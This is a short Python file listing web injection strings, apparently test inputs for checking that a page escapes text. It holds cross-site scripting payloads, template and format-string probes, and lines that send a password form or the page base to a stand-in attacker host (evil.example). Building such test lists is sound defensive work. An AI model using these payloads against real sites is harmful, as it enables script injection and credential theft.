"""Texts that would become something else on a page that does not take care."""

PAYLOADS = (
    "<script>document.title='gone'</script>",
    '"><img src=x onerror=document.title=1>',
    "' autofocus onfocus='document.title=1",
    "</textarea><svg/onload=document.title=1>",
    "</title></style></script><body onload=document.title=1>",
    "<iframe srcdoc='&lt;script&gt;1&lt;/script&gt;'></iframe>",
    "javascript:document.title=1",
    "&lt;b&gt; &amp;lt;b&amp;gt; &#60;b&#62; &quot;",
    "<!-- --!><form action=//evil.example><input name=password>",
    "<![CDATA[<a href=//evil.example>here</a>]]>",
    "{{ config }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "%(count)s %s %n {0} {field}",
    "<base href=//evil.example><meta http-equiv=refresh content=0>",
    "\\u003cscript\\u003e \\x3cb\\x3e `onmouseover=1`",
    "＜script＞ ‹b› <ſcript>",
)
